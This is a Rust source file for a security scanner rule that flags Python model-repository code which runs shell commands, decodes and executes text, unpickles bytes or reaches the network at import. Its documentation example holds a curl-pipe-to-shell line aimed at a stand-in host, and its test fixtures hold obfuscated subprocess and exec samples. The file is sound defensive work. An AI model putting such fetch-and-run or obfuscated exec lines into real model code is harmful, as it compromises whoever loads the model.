use stance_core::fact::{Artifact, Embedded, EmbeddedKind};
use stance_core::Confidence;

use super::deed::{self, Deed};
use crate::{Cx, Rule};

rule! {
    /// # Code of a model that acts on the machine
    ///
    /// ## What it finds
    /// Python that belongs to a model (`modeling_*.py`, `tokenization_*.py`, `configuration_*.py` and their like,
    /// classes that extend those of the Hugging Face libraries, endpoint handlers, loading scripts of datasets)
    /// and starts programs, evaluates text that is built, decoded or fetched, unpacks byte code, opens sockets,
    /// talks to the network while it is imported, reads credentials, writes files that run at the next login, or
    /// deletes files. Names taken by `getattr`, `__import__` or from `__builtins__` are followed. Critical when it runs as
    /// soon as the file is imported. A call, made for its effect at import, of a package that
    /// models are not made with is reported with less certainty.
    ///
    /// ## Why it matters
    /// With `trust_remote_code=True` loaders import this file and call what is in it, with the rights of whoever
    /// loads the model. Code that describes a network needs tensors and nothing else: no shell, no socket, no home
    /// directory.
    ///
    /// ## Example
    /// ```python
    /// import os
    /// os.system("curl http://x.example/x.sh | sh")
    ///
    /// class Model(PreTrainedModel): ...
    /// ```
    ///
    /// ## Fix
    /// Do not load the model with `trust_remote_code=True`. If the call has a reason, read the whole file, keep your own
    /// copy of it at a fixed commit, and load it where there is no network and nothing to steal.
    ///
    /// ## References
    /// - [Transformers: custom models](https://huggingface.co/docs/transformers/custom_models)
    /// - CWE-94: Improper Control of Generation of Code
    RepositoryCode {
        id: "model/repository-code",
        severity: High,
        stage: Supply,
        controls: [
            "owasp-llm-2025:LLM03",
            "owasp-llm-2026:LLM04",
            "owasp-agentic-2026:ASI04",
            "mitre-atlas:AML.T0010.003",
            "mitre-atlas:AML.T0011.000",
            "nist-ai-rmf-1.0:MANAGE 3.2",
            "iso-42001-2023:A.10.3",
            "eu-ai-act:Art. 15",
        ],
        bad: [
            crate::text!(
                "modeling_x.py",
                "import os\nfrom transformers import PreTrainedModel\nos.system('id')\nclass M(PreTrainedModel):\n    pass\n"
            ),
            crate::text!(
                "tokenization_x.py",
                "class T:\n    def __init__(self):\n        s = getattr(__import__('subprocess'), 'Po' + 'pen')\n        s(['sh', '-c', 'id'])\n"
            ),
            crate::text!("modeling_y.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
            crate::text!("modeling_v.py", "import pickle\nclass M:\n    def forward(self, x):\n        return pickle.loads(bytes.fromhex('80042e'))\n"),
            crate::text!("custom_generate/generate.py", "import os\ndef generate(model, **kwargs):\n    os.system('id')\n"),
            crate::text!("modeling_w.py", "(lambda f: f('id'))(__import__('os').popen)\n"),
            crate::text!("modeling_z.py", "from vendor_tools.agent import install\ninstall('.')\nclass Z: pass\n"),
        ],
        good: [
            crate::text!(
                "modeling_x.py",
                "import torch\nfrom transformers import AutoConfig, PreTrainedModel\nfrom transformers.utils import logging\nlogger = logging.get_logger(__name__)\nAutoConfig.register('x', object)\nclass M(PreTrainedModel):\n    def forward(self, x):\n        self.eval()\n        return torch.compile(x)\n"
            ),
            crate::text!(
                "processing_x.py",
                "import requests\nfrom PIL import Image\nclass P:\n    def load(self, url):\n        return Image.open(requests.get(url, stream=True).raw)\n"
            ),
            crate::text!(
                "tokenization_x.py",
                "import json\nclass T:\n    def __init__(self, vocab_file):\n        with open(vocab_file) as handle:\n            self.vocab = json.load(handle)\n"
            ),
            crate::text!("train.py", "import subprocess\nsubprocess.run(['nvidia-smi'])\n"),
        ],
    }
}

impl Rule for RepositoryCode {
    fn artifact(&self, artifact: &Artifact, cx: &mut Cx<'_>) {
        let calls: Vec<&Embedded> = artifact
            .embedded
            .iter()
            .filter(|embedded| embedded.kind == EmbeddedKind::ModelCode)
            .collect();
        let mut deeds: Vec<Deed<'_>> = calls.iter().filter_map(|call| deed::of(call)).collect();
        deeds.extend(deed::theft(&calls));
        deeds.sort_by_key(|deed| std::cmp::Reverse(deed.severity));
        let Some((first, rest)) = deeds.split_first() else {
            return;
        };
        let mut draft = cx
            .report(
                &first.call.evidence,
                format!("The code of the model {} {}", first.what, first.moment()),
            )
            .severity(first.severity)
            .note(format!("it calls: {}", stance_core::evidence::shorten(&first.call.detail)));
        if first.unsure {
            draft = draft.confidence(Confidence::Medium);
        }
        for deed in rest.iter().take(20) {
            draft = draft
                .note(format!("it {} {}", deed.what, deed.moment()))
                .also(&deed.call.evidence);
        }
    }
}
